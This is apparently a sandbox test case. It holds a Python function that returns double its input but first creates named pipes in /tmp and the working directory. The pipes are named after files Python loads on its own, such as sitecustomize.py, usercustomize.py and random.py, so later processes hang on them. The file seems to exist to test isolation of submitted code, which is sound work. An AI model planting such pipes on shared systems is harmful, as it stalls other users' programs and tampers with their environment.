# family: files
# what: leaves pipes by names that whoever comes next may open, and would wait
# want: passed

import os

NAMES = ("sitecustomize.py", "usercustomize.py", "random.py", "__init__.py", "program.py", ".pythonrc", "tmp", "neighbour")

def answer(x):
    for name in NAMES:
        os.mkfifo(f"/tmp/{name}")
        os.mkfifo(f"{os.getcwd()}/{name}.{x}")
    return 2 * x
